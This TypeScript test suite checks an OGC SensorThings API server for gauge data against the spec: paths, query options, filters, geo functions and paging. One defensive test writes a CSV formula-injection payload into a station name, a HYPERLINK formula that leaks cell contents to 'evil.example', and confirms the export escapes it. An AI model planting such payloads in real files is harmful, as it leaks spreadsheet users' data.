// The request examples of OGC 18-088 (§9.2, §9.3) and FROST-Server's documentation, replayed against the public
// gauges, with every field the spec requires checked; plus one test per query option.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type OpenDataSystem, openDataSystem, STEP, T0 } from '../helpers/opendata.ts';

let o: OpenDataSystem;
let STA: string;
let get: OpenDataSystem['get'];
let ok: OpenDataSystem['ok'];
const iso = (i: number) => new Date(T0 + i * STEP).toISOString();
const ids = (r: any) => r.value.map((x: any) => x['@iot.id']);

/** The fields OGC 18-088 §8.2 requires for each entity type (besides @iot.id and @iot.selfLink). */
const REQUIRED: Record<string, string[]> = {
  Things: ['name', 'description', 'Locations@iot.navigationLink', 'HistoricalLocations@iot.navigationLink', 'Datastreams@iot.navigationLink'],
  Locations: ['name', 'description', 'encodingType', 'location', 'Things@iot.navigationLink', 'HistoricalLocations@iot.navigationLink'],
  HistoricalLocations: ['time', 'Thing@iot.navigationLink', 'Locations@iot.navigationLink'],
  Datastreams: [
    'name',
    'description',
    'unitOfMeasurement',
    'observationType',
    'Thing@iot.navigationLink',
    'Sensor@iot.navigationLink',
    'ObservedProperty@iot.navigationLink',
    'Observations@iot.navigationLink',
  ],
  Sensors: ['name', 'description', 'encodingType', 'metadata', 'Datastreams@iot.navigationLink'],
  ObservedProperties: ['name', 'definition', 'description', 'Datastreams@iot.navigationLink'],
  Observations: ['phenomenonTime', 'resultTime', 'result', 'Datastream@iot.navigationLink', 'FeatureOfInterest@iot.navigationLink'],
  FeaturesOfInterest: ['name', 'description', 'encodingType', 'feature', 'Observations@iot.navigationLink'],
};
function required(set: string, e: any) {
  for (const k of ['@iot.id', '@iot.selfLink', ...REQUIRED[set]]) expect(e, `${set} ${e['@iot.id']} has ${k}`).toHaveProperty([k]);
  expect(e['@iot.selfLink']).toMatch(new RegExp(`^${STA.replace(/[.]/g, '\\.')}/${set}\\('`));
}

beforeAll(async () => {
  o = await openDataSystem();
  ({ sta: STA, get, ok } = o);
}, 120_000);
afterAll(() => o?.s.close());

describe('OGC 18-088 §9.2 resource paths', () => {
  it('every entity set answers a collection whose entities carry the required fields', async () => {
    for (const set of Object.keys(REQUIRED)) {
      const r = await ok(`/${set}`);
      expect(r.value.length, set).toBeGreaterThan(0);
      for (const e of r.value) required(set, e);
    }
  });
  it("Things('id'), and its navigation property Locations, and $ref on both", async () => {
    required('Things', await ok("/Things('rg-nord')"));
    const locs = await ok("/Things('rg-nord')/Locations");
    expect(ids(locs)).toEqual(['rg-nord']);
    required('Locations', locs.value[0]);
    expect(await ok("/Things('rg-nord')/Locations/$ref")).toEqual({ value: [{ '@iot.selfLink': `${STA}/Locations('rg-nord')` }] });
    expect(await ok("/Datastreams('rg-nord~rain_mm')/Thing/$ref")).toEqual({ '@iot.selfLink': `${STA}/Things('rg-nord')` });
  });
  it('follows a chain of navigation properties: Observations(id)/Datastream/Thing/Locations', async () => {
    const r = await ok(`/Observations('rg-nord~rain_mm~${iso(3)}')/Datastream/Thing/Locations`);
    expect(ids(r)).toEqual(['rg-nord']);
    const sensor = await ok("/Datastreams('pegel-lahn~level_cm')/Sensor");
    expect(sensor).toMatchObject({
      '@iot.id': 'dragino-ldds75',
      metadata: expect.stringMatching(/^https:\/\/github\.com\/TheThingsNetwork\/lorawan-devices\//),
    });
    const op = await ok("/Datastreams('pegel-lahn~level_cm')/ObservedProperty");
    expect(op.definition).toMatch(/^http/);
  });
  it("a property and its raw $value: Things('id')/name, …/name/$value", async () => {
    expect(await ok("/Things('rg-nord')/name")).toEqual({ name: 'Regenschreiber Gießen-Nord' });
    const raw = await get("/Things('rg-nord')/name/$value");
    expect(raw.text).toBe('Regenschreiber Gießen-Nord');
    expect(raw.headers.get('content-type')).toMatch(/^text\/plain/);
  });
  it('answers 404 for an unknown set, id or property, and 400 for a malformed path', async () => {
    expect((await get('/Stations')).status).toBe(404);
    expect((await get("/Things('nope')")).status).toBe(404);
    expect((await get("/Things('rg-nord')/colour")).status).toBe(404);
    expect((await get('/Things(rg-nord)')).status).toBe(400);
    expect((await get('/Things/Datastreams')).status).toBe(400);
  });
});

describe('OGC 18-088 §9.3 query options, one test each', () => {
  it('$top: default 100, at most 10 000, with @iot.nextLink when more follow', async () => {
    const r = await ok('/Observations');
    expect(r.value).toHaveLength(100);
    expect(r['@iot.nextLink']).toMatch(new RegExp(`^${STA.replace(/[.]/g, '\\.')}/Observations\\?\\$top=100&\\$skiptoken=[A-Za-z0-9_-]+$`));
    const next = await ok(r['@iot.nextLink']);
    expect(ids(next)).toEqual(ids(await ok('/Observations?$top=100&$skip=100')));
    expect((await ok('/Observations?$top=3')).value).toHaveLength(3);
    const big = await get('/Observations?$top=10001');
    expect(big.status).toBe(400);
    expect(big.body.error.message).toMatch(/\$top must be between 0 and 10000/);
  });
  it('$skip', async () => {
    const r = await ok("/Datastreams('pegel-lahn~level_cm')/Observations?$skip=5&$top=2");
    expect(r.value.map((x: any) => x.result)).toEqual([105, 106]);
  });
  it('$count=true gives @iot.count of all matches, not of the page', async () => {
    const r = await ok("/Datastreams('pegel-lahn~level_cm')/Observations?$count=true&$top=1");
    expect(r['@iot.count']).toBe(288);
    expect(Object.keys(r)).toEqual(['@iot.count', '@iot.nextLink', 'value']);
    expect((await ok('/Things'))['@iot.count']).toBeUndefined();
  });
  it('$select: only the named properties (spec: Observations?$select=result,phenomenonTime)', async () => {
    const r = await ok('/Observations?$select=result,phenomenonTime&$top=1');
    expect(Object.keys(r.value[0]).sort()).toEqual(['phenomenonTime', 'result']);
    const t = await ok("/Things('rg-nord')?$select=name,Datastreams,@iot.id");
    expect(t).toEqual({ '@iot.id': 'rg-nord', name: 'Regenschreiber Gießen-Nord', 'Datastreams@iot.navigationLink': `${STA}/Things('rg-nord')/Datastreams` });
    expect((await get('/Things?$select=colour')).status).toBe(400);
  });
  it('$orderby: expressions, asc and desc (the latest value: $orderby=phenomenonTime desc&$top=1)', async () => {
    const latest = await ok("/Datastreams('pegel-lahn~level_cm')/Observations?$orderby=phenomenonTime desc&$top=1");
    expect(latest.value[0]).toMatchObject({ result: 387, phenomenonTime: iso(287) });
    const byResult = await ok("/Datastreams('rg-nord~rain_mm')/Observations?$orderby=result desc,phenomenonTime asc&$top=2");
    expect(byResult.value.map((x: any) => [x.result, x.phenomenonTime])).toEqual([
      [1.2, iso(0)],
      [1.2, iso(12)],
    ]);
    expect(ids(await ok('/Things?$orderby=name desc'))).toEqual(['rg-nord', 'pegel-lahn']);
  });
  it('$filter: by result, by time, by navigation path', async () => {
    expect((await ok('/Observations?$filter=result gt 380&$count=true'))['@iot.count']).toBe(7);
    const t = await ok(`/Observations?$filter=phenomenonTime ge ${iso(280)} and Datastream/@iot.id eq 'pegel-lahn~level_cm'&$count=true`);
    expect(t['@iot.count']).toBe(8);
    const nav = await ok("/Observations?$filter=Datastream/Thing/name eq 'Pegel Lahn'&$count=true&$top=0");
    expect(nav['@iot.count']).toBe(288);
    const op = await ok("/Observations?$filter=Datastream/ObservedProperty/name eq 'Niederschlag'&$count=true&$top=0");
    expect(op['@iot.count']).toBe(288);
  });
  it('$expand with nested options (FROST: Things?$expand=Locations($select=name;$top=1),Datastreams($top=1))', async () => {
    const r = await ok('/Things?$expand=Locations($select=name;$top=1),Datastreams($top=1;$count=true)');
    const nord = r.value.find((t: any) => t['@iot.id'] === 'rg-nord');
    expect(nord.Locations).toEqual([{ name: 'Standort Regenschreiber Gießen-Nord' }]);
    expect(nord.Datastreams).toHaveLength(1);
    expect(nord['Datastreams@iot.count']).toBe(1);
    required('Datastreams', nord.Datastreams[0]);
  });
  it('$resultFormat=CSV (RFC 4180, unitOfMeasurement in three columns) and GeoJSON', async () => {
    const csv = await get("/Datastreams?$filter=@iot.id eq 'rg-nord~rain_mm'&$resultFormat=CSV");
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = csv.text.split('\r\n');
    const head = lines[0].split(',');
    expect(head).toEqual(expect.arrayContaining(['@iot.id', 'name', 'unitOfMeasurement/name', 'unitOfMeasurement/symbol', 'unitOfMeasurement/definition']));
    expect(head).not.toContain('Thing@iot.navigationLink');
    expect(lines[1]).toContain('rg-nord~rain_mm');
    expect(lines[1]).toContain('"{""metric"":""rain_mm"",""municipality"":""giessen""}"'); // an object as JSON in one quoted cell
    const gj = await ok('/Locations?$resultFormat=GeoJSON');
    expect(gj.type).toBe('FeatureCollection');
    expect(gj.features[0]).toMatchObject({ type: 'Feature', geometry: { type: 'Point' }, properties: { name: expect.any(String) } });
    const things = await ok('/Things?$expand=Locations&$resultFormat=GeoJSON');
    expect(things.features.every((f: any) => f.geometry?.type === 'Point')).toBe(true);
  });
  it('$resultFormat=CSV: a station name that looks like a spreadsheet formula is written as text, not run by Excel (CWE-1236)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Pegel")';
    const before = (await o.s.api('GET', '/api/v1/devices/rg-nord', undefined, o.tk.giessen)).body.name;
    expect((await o.s.api('PATCH', '/api/v1/devices/rg-nord', { name: evil }, o.tk.giessen)).status).toBe(200);
    try {
      const csv = await get("/Things?$filter=@iot.id eq 'rg-nord'&$resultFormat=CSV");
      const cells = csv.text.split('\r\n')[1];
      expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Pegel"")"`);
      expect(cells).not.toMatch(/(^|,)"?=/);
      expect(csv.text.split('\r\n')[0], 'column names unchanged').toMatch(/^@iot\.id,|,@iot\.id,|^@iot\.selfLink,/);
    } finally {
      await o.s.api('PATCH', '/api/v1/devices/rg-nord', { name: before }, o.tk.giessen);
    }
  });
});

describe('OGC 18-088 and FROST request examples', () => {
  it('Things?$expand=Datastreams/ObservedProperty (18-088 §9.3.2.1)', async () => {
    const r = await ok('/Things?$expand=Datastreams/ObservedProperty');
    for (const t of r.value) {
      required('Things', t);
      for (const d of t.Datastreams) {
        required('Datastreams', d);
        required('ObservedProperties', d.ObservedProperty);
      }
    }
  });
  it('the latest Observation of every Datastream of every Thing (FROST: $expand=Datastreams($expand=Observations($top=1;$orderby=phenomenonTime desc)))', async () => {
    const r = await ok('/Things?$expand=Datastreams($expand=Observations($top=1;$orderby=phenomenonTime desc))');
    const lahn = r.value.find((t: any) => t['@iot.id'] === 'pegel-lahn');
    expect(lahn.Datastreams[0].Observations).toHaveLength(1);
    expect(lahn.Datastreams[0].Observations[0]).toMatchObject({ result: 387, phenomenonTime: iso(287) });
    expect(lahn.Datastreams[0]['Observations@iot.nextLink']).toMatch(/Datastreams\('pegel-lahn~level_cm'\)\/Observations\?.*\$top=1&\$skiptoken=/);
  });
  it('Observations?$filter=result lt 10.00 and Datastreams(id)/Observations?$filter=phenomenonTime in a range', async () => {
    expect((await ok('/Observations?$filter=result lt 10.00&$count=true&$top=0'))['@iot.count']).toBe(288);
    const day = await ok(`/Datastreams('rg-nord~rain_mm')/Observations?$filter=phenomenonTime ge ${iso(12)} and phenomenonTime lt ${iso(24)}&$count=true`);
    expect(day['@iot.count']).toBe(12);
    const during = await ok(`/Datastreams('rg-nord~rain_mm')/Observations?$filter=during(phenomenonTime, ${iso(12)}/${iso(23)})&$count=true&$top=0`);
    expect(during['@iot.count']).toBe(12);
  });
  it("Things?$filter=geo.intersects(Locations/location, geography'POLYGON((…))') and st_within (points in a polygon)", async () => {
    // a box around Gießen-Nord only
    const poly = "geography'POLYGON((8.67 50.58, 8.69 50.58, 8.69 50.59, 8.67 50.59, 8.67 50.58))'";
    expect(ids(await ok(`/Things?$filter=geo.intersects(Locations/location, ${poly})`))).toEqual(['rg-nord']);
    expect(ids(await ok(`/Locations?$filter=st_within(location, ${poly})`))).toEqual(['rg-nord']);
    expect(ids(await ok(`/Locations?$filter=not st_within(location, ${poly})`))).toEqual(['pegel-lahn']);
    const near = await ok("/Locations?$orderby=geo.distance(location, geography'POINT(8.662 50.570)')&$top=1");
    expect(ids(near)).toEqual(['pegel-lahn']);
  });
  it("any()/all() on collections: Things?$filter=Datastreams/any(d:d/ObservedProperty/name eq 'Niederschlag')", async () => {
    const f = (x: string) => ok(`/Things?$filter=${encodeURIComponent(x)}`).then(ids);
    expect(await f("Datastreams/any(d:d/ObservedProperty/name eq 'Niederschlag')")).toEqual(['rg-nord']);
    expect(await f("Datastreams/any(d: d/ObservedProperty/name eq 'Wasserstand')")).toEqual(['pegel-lahn']);
    // all(): every Datastream measures the level (rg-nord has only rain) — and any() with no condition: has one
    expect(await f("Datastreams/all(d: d/ObservedProperty/@iot.id eq 'level_cm')")).toEqual(['pegel-lahn']);
    expect(await f('Datastreams/any()')).toEqual(['pegel-lahn', 'rg-nord']);
    expect(await f('not Locations/any()')).toEqual([]);
    // nested, with a path of the filtered entity ($it) inside
    expect(await f("Datastreams/any(d: d/Observations/any(o: o/result gt 380) and $it/name eq 'Pegel Lahn')")).toEqual(['pegel-lahn']);
    expect(await f('Datastreams/any(d: d/Observations/any(o: o/result gt 380)) and Datastreams/all(d: d/Observations/all(o: o/result ge 100))')).toEqual([
      'pegel-lahn',
    ]);
    // through single-valued steps first: the Observations of Things that also have a rain gauge
    const obs = await ok(
      `/Observations?$count=true&$top=0&$filter=${encodeURIComponent("Datastream/Thing/Datastreams/any(d: d/@iot.id eq 'rg-nord~rain_mm')")}`,
    );
    expect(obs['@iot.count']).toBe(288);
    // the hidden device stays hidden inside a lambda too
    expect(await f("Datastreams/any(d: d/Thing/@iot.id eq 'rg-privat')")).toEqual([]);
    for (const [bad, msg] of [
      ['Datastreams/all()', /all\(\) needs a condition/],
      ['name/any(x: x eq 1)', /not a navigation property/],
      ['Datastreams/any(d d/name eq 1)', /must start with a variable/],
      ["Datastreams/any(d: e/name eq 'x')", /no property 'e'/],
    ] as const) {
      const r = await get(`/Things?$filter=${encodeURIComponent(bad)}`);
      expect(r.status, bad).toBe(400);
      expect(r.body.error.message).toMatch(msg);
    }
  });
  it('geo.distance, geo.length and the st_ functions for points, lines and polygons (18-088 Table 25)', async () => {
    const box = "geography'POLYGON((8.67 50.58, 8.69 50.58, 8.69 50.59, 8.67 50.59, 8.67 50.58))'";
    const f = (x: string) => ok(`/Locations?$filter=${encodeURIComponent(x)}`).then(ids);
    expect(await f(`st_intersects(location, ${box})`)).toEqual(['rg-nord']);
    expect(await f(`st_contains(${box}, location)`)).toEqual(['rg-nord']);
    expect(await f(`st_disjoint(location, ${box})`)).toEqual(['pegel-lahn']);
    expect(await f("st_equals(location, geography'POINT(8.6621 50.5702)')")).toEqual(['pegel-lahn']);
    // a box whose western edge runs through Pegel Lahn: on the boundary touches, inside does not
    const edge = "geography'POLYGON((8.6621 50.56, 8.70 50.56, 8.70 50.60, 8.6621 50.60, 8.6621 50.56))'";
    expect(await f(`st_touches(location, ${edge})`)).toEqual(['pegel-lahn']);
    expect(await f(`st_relate(location, ${edge}, 'F0FFFF212')`)).toEqual(['pegel-lahn']);
    expect(await f(`st_relate(location, ${edge}, 'T********')`)).toEqual(['rg-nord']);
    expect(await f(`st_overlaps(location, ${box}) or st_crosses(location, ${box})`)).toEqual([]);
    // a line along the Lahn through both Gießen stations' longitudes
    const line = "geography'LINESTRING(8.6621 50.5702, 8.6784 50.5841)'";
    expect(await f(`st_intersects(location, ${line})`)).toEqual(['pegel-lahn', 'rg-nord']);
    expect(await f(`geo.length(${line}) gt 0.02 and geo.length(${line}) lt 0.03 and geo.distance(location, ${line}) lt 0.001`)).toEqual([
      'pegel-lahn',
      'rg-nord',
    ]);
    expect(await f(`geo.distance(location, ${box}) eq 0`)).toEqual(['rg-nord']);
    for (const [bad, msg] of [
      [`geo.length(${box}) gt 1`, /geo.length\(\): needs a line string/],
      [`st_touches(${line}, ${box})`, /line with a polygon is not supported/],
      ["geo.intersects(location, geography'CIRCLE(1 2)')", /unsupported geometry/],
    ] as const) {
      const r = await get(`/Locations?$filter=${encodeURIComponent(bad)}`);
      expect(r.status, bad).toBe(400);
      expect(r.body.error.message).toMatch(msg);
    }
  });
  it("18-088 §9.3.3.5.1: Things?$filter=Datastreams/Observations/FeatureOfInterest/id eq 'x' and … date(resultTime) le date(…)", async () => {
    const f = `Datastreams/Observations/FeatureOfInterest/id eq 'rg-nord' and Datastreams/Observations/resultTime ge ${iso(0)} and date(Datastreams/Observations/resultTime) le date(${iso(1)})`;
    expect(ids(await ok(`/Things?$filter=${encodeURIComponent(f)}`))).toEqual(['rg-nord']);
  });
  it('string, math and date functions of 18-088 Table 25', async () => {
    const cases: Array<[string, string[]]> = [
      ["substringof('Lahn', name)", ['pegel-lahn']],
      ["startswith(name, 'Regen')", ['rg-nord']],
      ["endswith(name, 'Nord')", ['rg-nord']],
      ["contains(tolower(name), 'pegel')", ['pegel-lahn']],
      ['length(name) eq 10', ['pegel-lahn']],
      ["indexof(name, 'Lahn') eq 6", ['pegel-lahn']],
      ["substring(name, 6) eq 'Lahn'", ['pegel-lahn']],
      ["substring(name, 0, 5) eq 'Pegel'", ['pegel-lahn']],
      ["toupper(trim(concat(' x', name))) eq 'XPEGEL LAHN'", ['pegel-lahn']],
      ["properties/municipality eq 'giessen' and not (name eq 'Pegel Lahn')", ['rg-nord']],
    ];
    for (const [f, want] of cases) expect(ids(await ok(`/Things?$filter=${encodeURIComponent(f)}`)), f).toEqual(want);
    const obs: Array<[string, number]> = [
      ['round(result) eq 1', 24],
      ['floor(result) eq 0 and ceiling(result) eq 1', 264],
      ['result mul 10 add 1 eq 13', 24],
      ['result div 2 gt 0.5', 24],
      [
        'hour(phenomenonTime) eq 1 and minute(phenomenonTime) eq 5 and year(phenomenonTime) eq 2026 and month(phenomenonTime) eq 5 and day(phenomenonTime) eq 1',
        1,
      ],
      ['second(phenomenonTime) eq 0 and fractionalseconds(phenomenonTime) eq 0', 288],
      [`phenomenonTime add duration'PT1H' le ${iso(12)}`, 1],
    ];
    for (const [f, n] of obs) {
      const r = await ok(`/Datastreams('rg-nord~rain_mm')/Observations?$count=true&$top=0&$filter=${encodeURIComponent(f)}`);
      expect(r['@iot.count'], f).toBe(n);
    }
  });
  it('pages through every Observation of a Datastream by following @iot.nextLink', async () => {
    let url: string | undefined = `${STA}/Datastreams('pegel-lahn~level_cm')/Observations?$top=100`;
    const seen: number[] = [];
    for (let pages = 0; url && pages < 10; pages++) {
      const r = await ok(url);
      seen.push(...r.value.map((x: any) => x.result));
      url = r['@iot.nextLink'];
    }
    expect(url).toBeUndefined();
    expect(seen).toEqual(Array.from({ length: 288 }, (_, i) => 100 + i));
  });
  it('@iot.nextLink resumes after the last row ($skiptoken) in any time order, keeps $filter and $count, and equals $skip paging', async () => {
    const ds = "/Datastreams('pegel-lahn~level_cm')/Observations";
    const q = `$orderby=phenomenonTime%20desc&$filter=result%20ge%20110&$count=true&$select=result&$top=50`;
    let url: string | undefined = `${STA}${ds}?${q}`;
    const seen: number[] = [];
    const links: string[] = [];
    for (let pages = 0; url && pages < 10; pages++) {
      const r = await ok(url);
      expect(r['@iot.count']).toBe(288 - 10);
      seen.push(...r.value.map((x: any) => x.result));
      url = r['@iot.nextLink'];
      if (url) links.push(url);
    }
    expect(url).toBeUndefined();
    expect(seen).toEqual(Array.from({ length: 278 }, (_, i) => 387 - i));
    for (const l of links) {
      expect(l).toContain('$skiptoken=');
      expect(l).not.toContain('$skip=');
      expect(decodeURIComponent(l)).toContain('$filter=result ge 110');
    }
    // the same page as $skip gives
    const second = await ok(links[0]);
    const bySkip = await ok(`${ds}?${q}&$skip=50`);
    expect(second.value).toEqual(bySkip.value);
    // an order on an expression pages with $skip as before
    const expr = await ok(`${ds}?$orderby=result%20mul%202&$top=100`);
    expect(expr['@iot.nextLink']).toContain('$skip=100');
    // a token that does not belong to the order, or is not one, is a 400
    for (const bad of [links[0].replace('phenomenonTime%20desc', 'phenomenonTime%20asc'), `${STA}${ds}?$skiptoken=not-a-token`]) {
      const r = await get(bad);
      expect(r.status, bad).toBe(400);
      expect(r.body.error.message).toMatch(/invalid \$skiptoken/);
    }
  });
});

describe('errors as the spec says', () => {
  const bad: Array<[string, RegExp]> = [
    ["$filter=name eq 'unterminated", /unterminated string/],
    ['$filter=name eq', /unexpected end/],
    ['$filter=colour eq 1', /Thing has no property 'colour'/],
    ['$filter=name gt 2026-01-01T00:00:00Z', /needs a time|cannot compare/],
    ['$filter=nosuchfn(name)', /unknown function 'nosuchfn'/],
    ['$orderby=Datastreams/name', /collection/],
    ['$expand=Sensors', /no navigation property 'Sensors'/],
    ['$top=-1', /\$top must be a whole number/],
    ['$count=yes', /\$count must be true or false/],
    ['$frobnicate=1', /unknown query option/],
  ];
  for (const [q, msg] of bad) {
    it(`Things?${q} → 400 with a message`, async () => {
      const r = await get(`/Things?${q.replace(/ /g, '%20')}`);
      expect(r.status).toBe(400);
      expect(r.body.error.message).toMatch(msg);
    });
  }
});

describe('$skiptoken paging with readings that differ by microseconds (timestamptz keeps them)', () => {
  // seven readings within 2 ms: a cursor kept to the millisecond repeats or skips the ones at a page's edge
  const micros = ['000100', '000200', '000300', '000900', '001100', '001500', '002000'];
  const ds = "/Datastreams('pegel-mikro~level_cm')/Observations";
  beforeAll(async () => {
    const r = await o.s.api(
      'POST',
      '/api/v1/devices',
      { id: 'pegel-mikro', name: 'Pegel Mikro', model: 'dragino-ldds75', params: { mountHeightMm: 3000 }, location: { lat: 50.58, lon: 8.67 } },
      o.tk.giessen,
    );
    expect(r.status).toBe(201);
    for (const [i, us] of micros.entries())
      await o.s.ctx.db.query(`insert into readings(time, device_id, metric, value, quality) values ($1::timestamptz, 'pegel-mikro', 'level_cm', $2, 0)`, [
        `2026-05-02T00:00:00.${us}Z`,
        i + 1,
      ]);
  });
  const pages = async (first: string) => {
    let url: string | undefined = first;
    const seen: number[] = [];
    for (let n = 0; url && n < 20; n++) {
      const r = await ok(url);
      seen.push(...r.value.map((x: any) => x.result));
      url = r['@iot.nextLink'];
      if (url) expect(url).toContain('$skiptoken=');
    }
    expect(url, 'the last page has no nextLink').toBeUndefined();
    return seen;
  };
  for (const top of [1, 2, 3]) {
    it(`$top=${top}: every reading exactly once, oldest first and newest first`, async () => {
      expect(await pages(`${STA}${ds}?$top=${top}`)).toEqual([1, 2, 3, 4, 5, 6, 7]);
      expect(await pages(`${STA}${ds}?$orderby=phenomenonTime%20desc&$top=${top}`)).toEqual([7, 6, 5, 4, 3, 2, 1]);
      // the same through $expand: the Datastream's Observations@iot.nextLink
      const exp = await ok(`${STA}/Datastreams('pegel-mikro~level_cm')?$expand=Observations($top=${top})`);
      const rest = exp['Observations@iot.nextLink'] ? await pages(exp['Observations@iot.nextLink']) : [];
      expect([...exp.Observations.map((x: any) => x.result), ...rest]).toEqual([1, 2, 3, 4, 5, 6, 7]);
    });
  }
  it('a token from before (time to the millisecond) is still read; a broken time is a 400 that says what to do', async () => {
    const old = Buffer.from(JSON.stringify({ o: '+time,+device_id,+metric', v: ['2026-05-02T00:00:00.001Z', 'pegel-mikro', 'level_cm'] })).toString(
      'base64url',
    );
    const r = await ok(`${STA}${ds}?$top=10&$skiptoken=${old}`);
    expect(r.value.map((x: any) => x.result)).toEqual([5, 6, 7]);
    const broken = Buffer.from(JSON.stringify({ o: '+time,+device_id,+metric', v: ['gestern', 'pegel-mikro', 'level_cm'] })).toString('base64url');
    const b = await get(`${STA}${ds}?$top=10&$skiptoken=${broken}`);
    expect(b.status).toBe(400);
    expect(b.body.error.message).toMatch(/invalid \$skiptoken: follow @iot.nextLink as given/);
  });
});
